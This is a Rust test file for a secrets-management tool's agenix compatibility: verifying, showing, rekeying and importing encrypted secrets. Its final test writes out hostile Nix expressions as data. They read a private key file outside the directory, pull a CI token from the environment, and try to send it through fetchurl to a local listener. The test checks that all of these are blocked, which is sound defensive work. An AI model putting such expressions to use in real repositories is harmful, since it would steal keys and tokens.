//! An existing agenix repository: `--rules secrets.nix`, and the migration import.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::harness::{fails, ok, pub_line, require, s, Fleet};

struct Agenix {
    fleet: Fleet, // only for its key helpers and temp dir
    dir: PathBuf,
    user: PathBuf,
    host1: PathBuf,
    host2: PathBuf,
}

/// An agenix repo: let-bound keys, publicKeys lists, one armored secret, files made by
/// the `age` CLI. No bento.toml anywhere.
fn agenix_repo() -> Agenix {
    require("nix-instantiate");
    require("age");
    let fleet = Fleet::new();
    let dir = fleet.home.join("agenix-repo/secrets");
    std::fs::create_dir_all(&dir).unwrap();
    let user = fleet.ssh_key("user1", "ed25519", "");
    let host1 = fleet.ssh_key("system1", "ed25519", "");
    let host2 = fleet.ssh_key("system2", "rsa", "");
    let nix = format!(
        r#"let
  user1 = "{}";
  system1 = "{}";
  system2 = "{}";
  systems = [ system1 system2 ];
in
{{
  "secret1.age".publicKeys = [ user1 system1 ];
  "secret2.age" = {{ publicKeys = [ user1 ] ++ systems; armor = true; }};
  "admin-only.age".publicKeys = [ user1 ];
}}
"#,
        pub_line(&user),
        pub_line(&host1),
        pub_line(&host2)
    );
    std::fs::write(dir.join("secrets.nix"), nix).unwrap();
    let repo = Agenix {
        fleet,
        dir,
        user,
        host1,
        host2,
    };
    repo.age(
        &["-R", &pubs(&repo.user), "-R", &pubs(&repo.host1)],
        "secret1.age",
        "one",
    );
    repo.age(
        &[
            "-a",
            "-R",
            &pubs(&repo.user),
            "-R",
            &pubs(&repo.host1),
            "-R",
            &pubs(&repo.host2),
        ],
        "secret2.age",
        "two",
    );
    repo.age(&["-R", &pubs(&repo.user)], "admin-only.age", "three");
    repo
}

fn pubs(key: &Path) -> String {
    crate::harness::pub_of(key).to_str().unwrap().to_owned()
}

impl Agenix {
    fn age(&self, args: &[&str], file: &str, content: &str) {
        let input = self.fleet.keys.join("plain");
        std::fs::write(&input, content).unwrap();
        let out = Command::new("age")
            .args(args)
            .arg("-o")
            .arg(self.dir.join(file))
            .arg(&input)
            .output()
            .unwrap();
        ok(&out);
    }

    /// `bento secret --rules secrets.nix ARGS` run from the repo's parent directory.
    fn bento(&self, args: &[&str]) -> std::process::Output {
        let mut all = vec!["secret", "--rules", "secrets/secrets.nix"];
        all.extend_from_slice(args);
        self.fleet
            .cmd(&all)
            .current_dir(self.dir.parent().unwrap())
            .output()
            .unwrap()
    }
}

#[test]
fn agenix_repo_verifies_and_a_stale_one_does_not() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    let out = repo.bento(&["verify"]);
    ok(&out);
    assert!(String::from_utf8_lossy(&out.stderr).contains("3 secrets verified"));
    // secret1 re-made for the user only: system1 is missing.
    repo.age(&["-R", &pubs(&repo.user)], "secret1.age", "one");
    let out = repo.bento(&["verify"]);
    assert!(!out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "secret1: missing system1 (named directly)\n"
    );
}

#[test]
fn show_edit_rekey_work_in_an_agenix_repo() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    assert_eq!(ok(&repo.bento(&["show", "secret2", "-i", s(&repo.host2)])), "two");
    // Stale after a hand-made file; rekey fixes it and the host can decrypt with age.
    repo.age(&["-R", &pubs(&repo.user)], "secret1.age", "one");
    ok(&repo.bento(&["rekey", "-i", s(&repo.user)]));
    ok(&repo.bento(&["verify"]));
    assert!(repo.dir.join("recipients.lock").exists());
    let out = Command::new("age")
        .args(["-d", "-i", s(&repo.host1)])
        .arg(repo.dir.join("secret1.age"))
        .output()
        .unwrap();
    assert_eq!(ok(&out), "one");
    // Edit from stdin keeps armor for secret2.
    let mut cmd = repo.fleet.cmd(&[
        "secret",
        "--rules",
        "secrets/secrets.nix",
        "edit",
        "secret2",
        "-i",
        s(&repo.user),
    ]);
    cmd.current_dir(repo.dir.parent().unwrap())
        .stdin(std::process::Stdio::piped());
    cmd.stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"changed").unwrap();
    ok(&child.wait_with_output().unwrap());
    let raw = std::fs::read_to_string(repo.dir.join("secret2.age")).unwrap();
    assert!(raw.starts_with("-----BEGIN AGE ENCRYPTED FILE-----"));
    assert_eq!(
        ok(&repo.bento(&["show", "secret2", "-i", s(&repo.host1)])),
        "changed"
    );
}

#[test]
fn import_agenix_makes_a_fleet_that_verifies() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    let fleet = &repo.fleet;
    let nix = repo.dir.join("secrets.nix");
    ok(&fleet.bento(&["secret", "import-agenix", s(&nix)]));
    let rules = std::fs::read_to_string(fleet.path("secrets/secrets.toml")).unwrap();
    assert!(rules.contains("admins = [\"user1\"]"), "{rules}");
    assert!(fleet.path("keys/hosts/system1.pub").exists() && fleet.path("keys/admins/user1.pub").exists());
    assert!(
        rules.contains("[secrets.secret2]") && rules.contains("armor = true"),
        "{rules}"
    );
    ok(&fleet.bento(&["secret", "verify"]));
    assert_eq!(
        ok(&fleet.bento(&["secret", "show", "secret1", "-i", s(&repo.host1)])),
        "one"
    );
    // A second import refuses: the fleet has secrets now.
    let err = fails(&fleet.bento(&["secret", "import-agenix", s(&nix)]));
    assert!(err.contains("already defines secrets"), "{err}");
}

#[test]
fn bad_secrets_nix_and_missing_nix_instantiate() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    std::fs::write(
        repo.dir.join("secrets.nix"),
        "{ \"a.age\".publicKeys = [ \"ssh-ed25519 nope\" ]; }",
    )
    .unwrap();
    let err = fails(&repo.bento(&["verify"]));
    assert!(
        err.starts_with("error: secrets/secrets.nix:1: \"a.age\": publicKeys:"),
        "{err}"
    );
    std::fs::write(repo.dir.join("secrets.nix"), "{ \"a.age\".publicKeys = [ ").unwrap();
    let err = fails(&repo.bento(&["verify"]));
    assert!(err.contains("nix-instantiate failed"), "{err}");
    // No nix on PATH.
    let empty = repo.fleet.home.join("empty-path");
    std::fs::create_dir_all(&empty).unwrap();
    let out = repo
        .fleet
        .cmd(&["secret", "--rules", "secrets/secrets.nix", "verify"])
        .current_dir(repo.dir.parent().unwrap())
        .env("PATH", &empty)
        .output()
        .unwrap();
    let err = fails(&out);
    assert!(
        err.contains("needs `nix-instantiate`, which is not installed"),
        "{err}"
    );
}

/// The let-bindings every [`Agenix::write_nix`] file starts with: six lines, so the body
/// starts on line 7.
impl Agenix {
    fn write_nix(&self, body: &str) {
        let text = format!(
            "let\n  user1 = \"{}\";\n  system1 = \"{}\";\n  system2 = \"{}\";\n  systems = [ system1 system2 ];\nin\n{body}",
            pub_line(&self.user),
            pub_line(&self.host1),
            pub_line(&self.host2)
        );
        std::fs::write(self.dir.join("secrets.nix"), text).unwrap();
    }
}

/// Upstream's example repos (with their test-only keys), kept beside the clone in
/// `../shared/interop` (see its README.md); `None` (the test skips, saying so) outside CI
/// when they are not there.
fn interop(project: &str) -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/interop")
        .join(project);
    crate::harness::shared_data(&dir.join("example/secrets.nix"), "agenix interop data").map(|_| dir)
}

/// A private, writable copy of upstream's `project` (agenix, ragenix) in the fleet's temp
/// dir; returns its root.
fn upstream(fleet: &Fleet, project: &str) -> Option<PathBuf> {
    fn copy(from: &Path, to: &Path) {
        use std::os::unix::fs::PermissionsExt;
        std::fs::create_dir_all(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap() {
            let entry = entry.unwrap();
            let dest = to.join(entry.file_name());
            if entry.file_type().unwrap().is_dir() {
                copy(&entry.path(), &dest);
            } else {
                std::fs::write(&dest, std::fs::read(entry.path()).unwrap()).unwrap();
                std::fs::set_permissions(&dest, std::fs::Permissions::from_mode(0o600)).unwrap();
            }
        }
    }
    require("nix-instantiate");
    let to = fleet.home.join(project);
    copy(&interop(project)?, &to);
    Some(to)
}

/// `bento secret --rules example/secrets.nix ARGS` in an upstream copy.
fn in_upstream(fleet: &Fleet, root: &Path, args: &[&str]) -> std::process::Output {
    let mut all = vec!["secret", "--rules", "example/secrets.nix"];
    all.extend_from_slice(args);
    fleet.cmd(&all).current_dir(root).output().unwrap()
}

#[test]
fn upstream_agenix_example_verifies_and_shows() {
    if !crate::harness::needs_nix() {
        return;
    }
    let fleet = Fleet::new();
    let Some(root) = upstream(&fleet, "agenix") else {
        return;
    };
    let out = in_upstream(&fleet, &root, &["verify"]);
    ok(&out);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("5 secrets verified"),
        "{out:?}"
    );
    let show = |args: &[&str]| ok(&in_upstream(&fleet, &root, args));
    assert_eq!(show(&["show", "secret1", "-i", "example_keys/user1"]), "hello\n");
    assert_eq!(show(&["show", "secret2", "-i", "example_keys/user1"]), "world!\n");
    assert_eq!(
        show(&["show", "armored-secret", "-i", "example_keys/user1"]),
        "Hello World!\n"
    );
    // The leading-hyphen file: by its valid name, and by its file name after `--`.
    let hyphen = "filename started with hyphen\n";
    assert_eq!(
        show(&["show", "leading-hyphen-filename", "-i", "example_keys/system1"]),
        hyphen
    );
    assert_eq!(
        show(&[
            "show",
            "-i",
            "example_keys/system1",
            "--",
            "-leading-hyphen-filename.age"
        ]),
        hyphen
    );
    assert!(show(&["show", "passwordfile-user1", "-i", "example_keys/system1"]).starts_with("$6$"));
}

#[test]
fn upstream_ragenix_example_verifies_and_shows() {
    if !crate::harness::needs_nix() {
        return;
    }
    let fleet = Fleet::new();
    let Some(root) = upstream(&fleet, "ragenix") else {
        return;
    };
    // Its secrets.nix has `extra = "…"` in an entry.
    let out = in_upstream(&fleet, &root, &["verify"]);
    ok(&out);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("2 secrets verified"),
        "{out:?}"
    );
    // Each of its three keys (age, ssh-ed25519, ssh-rsa) opens each secret.
    for key in ["key.txt", "id_ed25519", "id_rsa"] {
        let id = format!("example/keys/{key}");
        let passwd = ok(&in_upstream(&fleet, &root, &["show", "root.passwd", "-i", &id]));
        assert!(passwd.starts_with("$6$6Uu4dqnjJoFZ$"), "{key}: {passwd}");
        assert_eq!(
            ok(&in_upstream(
                &fleet,
                &root,
                &["show", "github-runner.token.age", "-i", &id]
            )),
            "wurzelpfropf!\n",
            "{key}"
        );
    }
}

#[test]
fn upstream_examples_import_into_a_fresh_fleet_and_verify() {
    if !crate::harness::needs_nix() {
        return;
    }
    // agenix: a leading-hyphen file name, an armored secret.
    let fleet = Fleet::new();
    let Some(root) = upstream(&fleet, "agenix") else {
        return;
    };
    let nix = root.join("example/secrets.nix");
    let out = fleet.bento(&["secret", "import-agenix", s(&nix)]);
    ok(&out);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("renamed -leading-hyphen-filename.age to the secret name leading-hyphen-filename"),
        "{said}"
    );
    let rules = std::fs::read_to_string(fleet.path("secrets/secrets.toml")).unwrap();
    assert!(
        rules.contains("[secrets.leading-hyphen-filename]\nrecipients = [")
            && rules.contains("file = \"-leading-hyphen-filename.age\""),
        "{rules}"
    );
    assert!(fleet.path("secrets/-leading-hyphen-filename.age").is_file());
    let out = fleet.bento(&["secret", "verify"]);
    ok(&out);
    assert!(String::from_utf8_lossy(&out.stderr).contains("5 secrets verified"));
    let user1 = root.join("example_keys/user1");
    let system1 = root.join("example_keys/system1");
    for (name, key, want) in [
        (
            "leading-hyphen-filename",
            &system1,
            "filename started with hyphen\n",
        ),
        ("armored-secret", &user1, "Hello World!\n"),
        ("secret1", &system1, "hello\n"),
    ] {
        assert_eq!(ok(&fleet.bento(&["secret", "show", name, "-i", s(key)])), want);
    }

    // ragenix: an extra attribute, age + ssh-ed25519 + ssh-rsa recipients.
    let fleet = Fleet::new();
    let Some(root) = upstream(&fleet, "ragenix") else {
        return;
    };
    ok(&fleet.bento(&["secret", "import-agenix", s(&root.join("example/secrets.nix"))]));
    ok(&fleet.bento(&["secret", "verify"]));
    let age_key = root.join("example/keys/key.txt");
    assert_eq!(
        ok(&fleet.bento(&["secret", "show", "github-runner.token", "-i", s(&age_key)])),
        "wurzelpfropf!\n"
    );
}

#[test]
fn extra_attributes_are_ignored_and_named_with_verbose() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    repo.write_nix(
        "{\n  \"secret1.age\" = { publicKeys = [ user1 system1 ]; extra = 1; owner = \"x\"; };\n  \
         \"secret2.age\" = { publicKeys = [ user1 ] ++ systems; armor = true; };\n  \
         \"admin-only.age\".publicKeys = [ user1 ];\n}\n",
    );
    let note = "secrets/secrets.nix: ignoring attributes bento does not use: \"secret1.age\".extra, \
                \"secret1.age\".owner";
    let out = repo.bento(&["verify"]);
    ok(&out);
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("ignoring"),
        "{out:?}"
    );
    let with_flag = repo
        .fleet
        .cmd(&["-v", "secret", "--rules", "secrets/secrets.nix", "verify"])
        .current_dir(repo.dir.parent().unwrap())
        .output()
        .unwrap();
    let with_env = repo
        .fleet
        .cmd(&["secret", "--rules", "secrets/secrets.nix", "verify"])
        .current_dir(repo.dir.parent().unwrap())
        .env("BENTO_VERBOSE", "1")
        .output()
        .unwrap();
    for out in [with_flag, with_env] {
        ok(&out);
        let said = String::from_utf8_lossy(&out.stderr);
        assert_eq!(said.matches(note).count(), 1, "{said}");
        assert!(said.contains("3 secrets verified"), "{said}");
    }
    assert_eq!(ok(&repo.bento(&["show", "secret1", "-i", s(&repo.host1)])), "one");
}

#[test]
fn bad_entries_name_the_attribute_and_its_line_in_secrets_nix() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    // Line 7 is `{`.
    repo.write_nix("{\n  \"secret1.age\".publicKeys = [ user1 ];\n  \"bad.age\".publicKeys = user1;\n}\n");
    assert_eq!(
        fails(&repo.bento(&["verify"])),
        "error: secrets/secrets.nix:9: \"bad.age\": publicKeys is a string; write a list: publicKeys = [ … ];"
    );
    repo.write_nix(
        "{\n  \"secret1.age\" = {\n    armor = false;\n    publicKeys = [ \"ssh-ed25519 nope\" ];\n  };\n}\n",
    );
    let err = fails(&repo.bento(&["verify"]));
    assert!(
        err.starts_with("error: secrets/secrets.nix:10: \"secret1.age\": publicKeys: "),
        "{err}"
    );
    repo.write_nix("{\n  \"secret1.age\" = {\n    armor = \"yes\";\n    publicKeys = [ user1 ];\n  };\n}\n");
    assert_eq!(
        fails(&repo.bento(&["verify"])),
        "error: secrets/secrets.nix:8: \"secret1.age\": armor is a string; write true or false"
    );
    repo.write_nix("{\n  \"secret1.age\".publicKeys = [ user1 42 ];\n}\n");
    assert_eq!(
        fails(&repo.bento(&["verify"])),
        "error: secrets/secrets.nix:8: \"secret1.age\": publicKeys: item 2 is an int, not a key line (a string)"
    );
    repo.write_nix("{\n  \"secret1.age\" = 3;\n}\n");
    assert_eq!(
        fails(&repo.bento(&["verify"])),
        "error: secrets/secrets.nix:8: \"secret1.age\": is an int; write { publicKeys = [ … ]; }"
    );
}

#[test]
fn nix_errors_keep_their_position() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    repo.write_nix("{\n  \"a.age\".publicKeys = [ nobody ];\n}\n");
    assert_eq!(
        fails(&repo.bento(&["verify"])),
        "error: secrets/secrets.nix:8: column 26: nix-instantiate failed: an undefined variable \
         (Nix's own message is not shown, as it may quote what the file computed; run \
         `nix-instantiate --eval --strict` on it to read it)"
    );
    repo.write_nix("{\n  \"a.age\".publicKeys = [ user1 ];\n");
    let err = fails(&repo.bento(&["verify"]));
    assert!(
        err.starts_with("error: secrets/secrets.nix:8: column 34: ")
            && err.contains("nix-instantiate failed: a syntax error"),
        "{err}"
    );
}

#[test]
fn import_keeps_ciphertexts_in_place_when_secrets_nix_is_at_the_fleet_root() {
    if !crate::harness::needs_nix() {
        return;
    }
    require("nix-instantiate");
    require("age");
    let fleet = Fleet::new();
    let host = fleet.ssh_key("web1", "ed25519", "");
    let admin = fleet.ssh_key("alice", "ed25519", "");
    std::fs::write(
        fleet.path("secrets.nix"),
        format!(
            "let\n  alice = \"{}\";\n  web1 = \"{}\";\nin\n{{\n  \"secrets/db.age\".publicKeys = [ alice web1 ];\n  \
             \"secrets/.hidden.age\".publicKeys = [ alice ];\n}}\n",
            pub_line(&admin),
            pub_line(&host)
        ),
    )
    .unwrap();
    let plain = fleet.keys.join("plain");
    std::fs::write(&plain, "db").unwrap();
    for (file, keys) in [("db.age", vec![&admin, &host]), (".hidden.age", vec![&admin])] {
        let mut cmd = Command::new("age");
        for k in keys {
            cmd.arg("-R").arg(crate::harness::pub_of(k));
        }
        ok(&cmd
            .arg("-o")
            .arg(fleet.path("secrets").join(file))
            .arg(&plain)
            .output()
            .unwrap());
    }
    let out = fleet.bento(&["secret", "import-agenix", "secrets.nix"]);
    ok(&out);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("renamed secrets/.hidden.age to the secret name hidden") && !said.contains("copied"),
        "{said}"
    );
    assert!(
        !fleet.path("secrets/secrets").exists(),
        "nothing copied to secrets/secrets/"
    );
    let rules = std::fs::read_to_string(fleet.path("secrets/secrets.toml")).unwrap();
    assert!(
        rules.ends_with("[secrets.db]\nrecipients = [\"web1\"]\n")
            && rules.contains("[secrets.hidden]\nrecipients = []\nfile = \".hidden.age\"\n"),
        "{rules}"
    );
    // No orphan: the files in place are the ones the rules name.
    let out = fleet.bento(&["secret", "verify"]);
    ok(&out);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "");
    assert_eq!(ok(&fleet.bento(&["secret", "show", "db", "-i", s(&host)])), "db");
}

#[test]
fn secrets_named_by_file_name_and_errors_name_secrets_nix() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    assert_eq!(
        ok(&repo.bento(&["show", "secret1.age", "-i", s(&repo.host1)])),
        "one"
    );
    // edit and rekey take the file name too.
    let mut cmd = repo.fleet.cmd(&[
        "secret",
        "--rules",
        "secrets/secrets.nix",
        "edit",
        "secret1.age",
        "-i",
        s(&repo.user),
    ]);
    cmd.current_dir(repo.dir.parent().unwrap())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"edited").unwrap();
    ok(&child.wait_with_output().unwrap());
    assert_eq!(
        ok(&repo.bento(&["show", "secret1", "-i", s(&repo.host1)])),
        "edited"
    );
    repo.age(&["-R", &pubs(&repo.user)], "secret1.age", "stale");
    let out = repo.bento(&["rekey", "secret1.age", "-i", s(&repo.user)]);
    ok(&out);
    assert!(String::from_utf8_lossy(&out.stderr).contains("secret1: re-encrypted"));
    assert_eq!(
        ok(&repo.bento(&["show", "secret1.age", "-i", s(&repo.host1)])),
        "stale"
    );

    // Errors and hints name secrets.nix and the --rules to pass, never secrets.toml.
    let err = fails(&repo.bento(&["show", "nope", "-i", s(&repo.user)]));
    assert_eq!(
        err,
        "error: no rule for secret `nope` in secrets/secrets.nix; add `\"nope.age\".publicKeys = [ … ];` \
         to it (or name an existing secret: `bento secret --rules secrets/secrets.nix list`)"
    );
    std::fs::remove_file(repo.dir.join("admin-only.age")).unwrap();
    let err = fails(&repo.bento(&["show", "admin-only.age", "-i", s(&repo.user)]));
    assert_eq!(
        err,
        "error: secrets/admin-only.age does not exist yet; create it with \
         `bento secret --rules secrets/secrets.nix edit admin-only`"
    );
    let out = repo.bento(&["verify"]);
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        said.contains("create it with `bento secret --rules secrets/secrets.nix edit admin-only`")
            && !said.contains("secrets.toml"),
        "{said}"
    );
}

/// A contributor's `secrets.nix` is evaluated as untrusted code by the key-less CI check:
/// it reads nothing outside its own directory, sees no environment, reaches no network, and
/// what it computed never appears in bento's output.
#[test]
fn a_hostile_secrets_nix_reads_and_sends_nothing() {
    if !crate::harness::needs_nix() {
        return;
    }
    let repo = agenix_repo();
    // An admin identity outside the rules' directory, a token in the environment.
    let identity = std::fs::read_to_string(&repo.user).unwrap();
    let marker = identity.lines().nth(1).unwrap().to_owned();
    let token = "ci-token-7f3a9c";
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let key = repo.user.display();
    let run = |body: &str| {
        repo.write_nix(body);
        let out = repo
            .fleet
            .cmd(&["secret", "--rules", "secrets/secrets.nix", "verify"])
            .current_dir(repo.dir.parent().unwrap())
            .env("CI_TOKEN", token)
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!out.status.success(), "{body}: {text}");
        assert!(!text.contains(token) && !text.contains(&marker), "{text}");
        text
    };
    // A file read outside the directory: refused by the evaluator, named by position only.
    let err = run(&format!(
        "{{\n  \"a.age\".publicKeys = [ (builtins.readFile {key}) ];\n}}\n"
    ));
    assert!(
        err.contains("secrets/secrets.nix:8: column")
            && err.contains("reads a file outside its own directory"),
        "{err}"
    );
    // The file's content thrown as an error message: never quoted.
    run(&format!(
        "{{\n  \"a.age\".publicKeys = [ (throw (builtins.readFile {key})) ];\n}}\n"
    ));
    // The environment: empty to the evaluator, so the token is neither thrown nor a key.
    run("{\n  \"a.age\".publicKeys = [ (throw (builtins.getEnv \"CI_TOKEN\")) ];\n}\n");
    let err = run("{\n  \"a.age\".publicKeys = [ (\"x\" + builtins.getEnv \"CI_TOKEN\") ];\n}\n");
    assert!(err.contains("publicKeys"), "{err}");
    // The network: no request leaves, whatever the URL carries.
    let err = run(&format!(
        "{{\n  \"a.age\".publicKeys = [ (builtins.readFile (builtins.fetchurl \
         \"http://127.0.0.1:{port}/?k=${{builtins.getEnv \"CI_TOKEN\"}}\")) ];\n}}\n"
    ));
    assert!(
        err.contains("reads a file outside its own directory, a URI"),
        "{err}"
    );
    assert!(
        listener.accept().is_err(),
        "the evaluation connected to the test's listener"
    );
    // Files beside secrets.nix are still read: the usual `import ./keys.nix`.
    std::fs::write(
        repo.dir.join("keys.nix"),
        format!(
            "{{ user1 = \"{}\"; system1 = \"{}\"; system2 = \"{}\"; }}\n",
            pub_line(&repo.user),
            pub_line(&repo.host1),
            pub_line(&repo.host2)
        ),
    )
    .unwrap();
    std::fs::write(
        repo.dir.join("secrets.nix"),
        "with import ./keys.nix; {\n  \"secret1.age\".publicKeys = [ user1 system1 ];\n  \
         \"secret2.age\" = { publicKeys = [ user1 system1 system2 ]; armor = true; };\n  \
         \"admin-only.age\".publicKeys = [ user1 ];\n}\n",
    )
    .unwrap();
    ok(&repo.bento(&["verify"]));
}
